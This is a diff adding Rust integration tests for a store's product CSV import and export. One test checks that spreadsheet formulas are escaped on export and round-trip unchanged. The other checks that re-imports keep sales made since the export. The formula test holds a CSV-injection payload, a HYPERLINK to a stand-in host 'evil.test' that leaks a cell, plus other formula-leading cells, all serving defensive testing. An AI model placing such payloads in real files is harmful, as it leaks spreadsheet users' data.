@@ -3,11 +3,14 @@
 //! updates (a changed price applies) and duplicates nothing; a retried upload (same key) starts
 //! no second job; a wrong header, a Windows-1252 file or a file over 25 MB is refused with a
 //! message and writes nothing; another store's products are never exported nor touched; and
-//! 100 000 rows import completely while /healthz and a storefront page keep answering.
+//! 100 000 rows import completely while /healthz and a storefront page keep answering; the export
+//! escapes cells a spreadsheet would run as formulas, and imports back to the same values; a
+//! re-import keeps the sales made since the export, and a stock changed in the file after a sale
+//! is refused with the current stock.
 #[macro_use]
 mod support;
 
-use app::domain::product_csv::{COLUMNS, ImportJobView};
+use app::domain::product_csv::{COLUMNS, EXPORT_COLUMNS, ImportJobView};
 use server::store::Database;
 use support::{OWNER_A, OWNER_B, TestApp};
 
@@ -16,6 +19,8 @@ conformance!(multi_thread;
     a_wrong_header_bad_encoding_or_huge_file_is_refused_and_nothing_is_written,
     another_store_is_never_exported_or_touched,
     a_hundred_thousand_rows_import_while_the_shop_keeps_answering,
+    the_export_escapes_formulas_and_imports_back_to_the_same_text,
+    a_reimport_keeps_the_sales_made_since_the_export,
 );
 
 const BOUNDARY: &str = "----shop-test-boundary-7f3a";
@@ -110,7 +115,8 @@ async fn count(db: &Database, sql: &str) -> i64 {
 /// The data records of an exported CSV.
 fn records(body: &str) -> Vec<Vec<String>> {
     let mut reader = csv::Reader::from_reader(body.as_bytes());
-    assert_eq!(reader.headers().unwrap().iter().collect::<Vec<_>>(), COLUMNS.to_vec());
+    // The required columns, then the stock at export (which keeps a re-import from undoing sales).
+    assert_eq!(reader.headers().unwrap().iter().collect::<Vec<_>>(), EXPORT_COLUMNS.to_vec());
     reader.records().map(|r| r.unwrap().iter().map(str::to_string).collect()).collect()
 }
 
@@ -356,4 +362,147 @@ async fn a_hundred_thousand_rows_import_while_the_shop_keeps_answering(db: Datab
     let sql = format!("SELECT COUNT(*) FROM product_variants WHERE merchant_id = {store_a} AND sku LIKE 'BULK-%'");
     assert_eq!(count(&db, &sql).await, 100_000);
     assert_eq!(count(&db, "SELECT COUNT(*) FROM products WHERE slug LIKE 'bulk-shirt-%'").await, 25_000);
+}
+
+/// Writes records (a header first) as a CSV file.
+fn csv_file(records: &[Vec<String>]) -> Vec<u8> {
+    let mut out = csv::Writer::from_writer(Vec::new());
+    for r in records {
+        out.write_record(r).unwrap();
+    }
+    out.into_inner().unwrap()
+}
+
+fn export_file(records: &[Vec<String>]) -> Vec<u8> {
+    let mut all = vec![EXPORT_COLUMNS.iter().map(|c| c.to_string()).collect::<Vec<_>>()];
+    all.extend(records.iter().cloned());
+    csv_file(&all)
+}
+
+async fn the_export_escapes_formulas_and_imports_back_to_the_same_text(db: Database) {
+    let app = support::spawn_app_on(db.clone(), Default::default()).await;
+    let a = app.login(OWNER_A.0, OWNER_A.1).await;
+    let cat = a_category(&app).await;
+    let title = r#"=HYPERLINK("http://evil.test/?leak="&A1,"Click")"#;
+    let file = csv_file(&[
+        COLUMNS.iter().map(|c| c.to_string()).collect(),
+        ["csv-formula", title, "@SUM(1+1)", &cat, "published", "Size", "-5 cm", "CSV-F-1", "10.00", "", "4"]
+            .map(String::from)
+            .to_vec(),
+        ["csv-formula", "", "", "", "", "", "+1 size", "CSV-F-2", "11.00", "", "4"].map(String::from).to_vec(),
+        ["csv-quoted", "''=twice quoted", "'\tTabbed", &cat, "draft", "", "", "CSV-Q", "1.00", "", "1"]
+            .map(String::from)
+            .to_vec(),
+    ]);
+    let (_, location) = upload(&app, &a, "/admin/products/import", "csv-formula-key-01", &file).await;
+    let job = finished(&app, &a, job_id(&location)).await;
+    assert_eq!((job.ok_rows, job.failed_rows), (3, 0), "{job:?}");
+    let stored = |slug: &str| {
+        let db = db.clone();
+        let slug = slug.to_string();
+        async move {
+            let id = count(&db, &format!("SELECT id FROM products WHERE slug = '{slug}'")).await;
+            let form =
+                app::services::product_admin_store::ProductAdminStore::product_form(db.products_admin().as_ref(), id)
+                    .await
+                    .unwrap()
+                    .unwrap();
+            form.input
+        }
+    };
+    assert_eq!(stored("csv-formula").await.title, title, "stored as typed");
+    // A file's '= is a spreadsheet's "this is text": one apostrophe is dropped on import.
+    assert_eq!(stored("csv-quoted").await.title, "'=twice quoted");
+
+    // Over HTTP: no cell of the file starts like a formula; ours carry the apostrophe.
+    let export = app.get_as(&a, "/admin/products/export.csv").await;
+    assert_eq!(export.status, 200);
+    let records = records(&export.body);
+    for r in &records {
+        for cell in r {
+            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a formula cell: {cell:?}");
+        }
+    }
+    let row = |sku: &str| records.iter().find(|r| r[7] == sku).unwrap().clone();
+    assert_eq!(row("CSV-F-1")[1], format!("'{title}"));
+    assert_eq!(row("CSV-F-1")[2], "'@SUM(1+1)");
+    assert_eq!(row("CSV-F-1")[6], "'-5 cm");
+    assert_eq!(row("CSV-F-2")[6], "'+1 size");
+    assert_eq!(row("CSV-Q")[1], "''=twice quoted", "an apostrophe already there is kept, one more added");
+    assert_eq!(row("CSV-Q")[2], "'\tTabbed");
+    assert!(!export.body.contains(",=HYPERLINK") && !export.body.contains("\"=HYPERLINK"));
+
+    // Importing the export gives back exactly what was stored.
+    let before = (stored("csv-formula").await, stored("csv-quoted").await);
+    let (_, location) = upload(&app, &a, "/admin/products/import", "csv-formula-key-02", export.body.as_bytes()).await;
+    let job = finished(&app, &a, job_id(&location)).await;
+    assert_eq!(job.failed_rows, 0, "{job:?}");
+    let after = (stored("csv-formula").await, stored("csv-quoted").await);
+    assert_eq!(after, before);
+    assert_eq!(after.0.title, title);
+    assert_eq!(after.0.description, "@SUM(1+1)");
+    assert_eq!(after.0.variants[0].option, "-5 cm");
+    assert_eq!(after.1.title, "'=twice quoted");
+}
+
+async fn a_reimport_keeps_the_sales_made_since_the_export(db: Database) {
+    let app = support::spawn_app_on(db.clone(), Default::default()).await;
+    let a = app.login(OWNER_A.0, OWNER_A.1).await;
+    let cat = a_category(&app).await;
+    let file = format!("{}\ncsv-stock-lamp,Stock Lamp,,{cat},published,,,CSV-STOCK,20.00,,10\n", COLUMNS.join(","));
+    let (_, location) = upload(&app, &a, "/admin/products/import", "csv-stock-key-001", file.as_bytes()).await;
+    assert_eq!(finished(&app, &a, job_id(&location)).await.ok_rows, 1);
+    let variant = count(&db, "SELECT id FROM product_variants WHERE sku = 'CSV-STOCK'").await;
+    let stock = || count(&db, "SELECT stock FROM product_variants WHERE sku = 'CSV-STOCK'");
+
+    // Export (stock 10), then a shopper buys 3.
+    let export = app.get_as(&a, "/admin/products/export.csv").await;
+    let mut ours = records(&export.body).into_iter().find(|r| r[7] == "CSV-STOCK").unwrap();
+    assert_eq!((ours[10].as_str(), ours[11].as_str()), ("10", "10"));
+    let sale =
+        support::guest_checkout(vec![(variant, 3)], "4242 4242 4242 4242", "stock-sale-001", 1_800_000_000, [7; 8]);
+    let out = app::services::checkout::place_order(
+        db.orders().as_ref(),
+        &app::domain::gateway::TestGateway,
+        &Default::default(),
+        sale,
+    )
+    .await
+    .unwrap();
+    assert!(matches!(out, app::services::checkout::CheckoutOutcome::Paid { .. }), "{out:?}");
+    assert_eq!(stock().await, 7);
+
+    // Importing the file as exported keeps the sale.
+    let (_, location) =
+        upload(&app, &a, "/admin/products/import", "csv-stock-key-002", &export_file(&[ours.clone()])).await;
+    let job = finished(&app, &a, job_id(&location)).await;
+    assert_eq!((job.ok_rows, job.failed_rows), (1, 0), "{job:?}");
+    assert_eq!(stock().await, 7, "the sale made after the export is not undone");
+
+    // A stock changed in the file after the sale is refused, with the current stock; nothing written.
+    ours[10] = "12".into();
+    ours[1] = "Renamed Lamp".into();
+    let (_, location) =
+        upload(&app, &a, "/admin/products/import", "csv-stock-key-003", &export_file(&[ours.clone()])).await;
+    let job = finished(&app, &a, job_id(&location)).await;
+    assert_eq!((job.ok_rows, job.failed_rows), (0, 1), "{job:?}");
+    let message = &job.errors[0].message;
+    assert!(message.contains("changed since the export") && message.contains("it is 7 now"), "{message}");
+    assert_eq!(stock().await, 7);
+    assert_eq!(count(&db, "SELECT COUNT(*) FROM products WHERE title = 'Renamed Lamp'").await, 0);
+
+    // Reviewed: exported_stock set to the current stock, the new stock applies.
+    ours[11] = "7".into();
+    let (_, location) =
+        upload(&app, &a, "/admin/products/import", "csv-stock-key-004", &export_file(&[ours.clone()])).await;
+    assert_eq!(finished(&app, &a, job_id(&location)).await.ok_rows, 1);
+    assert_eq!(stock().await, 12);
+    let history = format!("SELECT delta FROM stock_adjustments WHERE variant_id = {variant} ORDER BY id DESC LIMIT 1");
+    assert_eq!(count(&db, &history).await, 5);
+
+    // A file without exported_stock states a count (a stocktake): it replaces the stock.
+    let file = format!("{}\ncsv-stock-lamp,Stock Lamp,,{cat},published,,,CSV-STOCK,20.00,,30\n", COLUMNS.join(","));
+    let (_, location) = upload(&app, &a, "/admin/products/import", "csv-stock-key-005", file.as_bytes()).await;
+    assert_eq!(finished(&app, &a, job_id(&location)).await.ok_rows, 1);
+    assert_eq!(stock().await, 30);
 }
